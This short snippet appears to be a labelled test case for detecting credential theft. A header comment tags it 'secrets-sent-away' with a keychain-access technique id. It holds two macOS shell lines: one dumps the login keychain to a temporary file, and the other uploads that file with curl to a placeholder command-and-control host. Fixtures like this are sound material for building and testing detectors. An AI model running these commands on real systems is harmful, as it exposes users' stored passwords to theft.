# expect: secrets-sent-away | source: T1555.001
security dump-keychain -d login.keychain > /tmp/k
curl -s -F k=@/tmp/k https://c2.example.invalid/
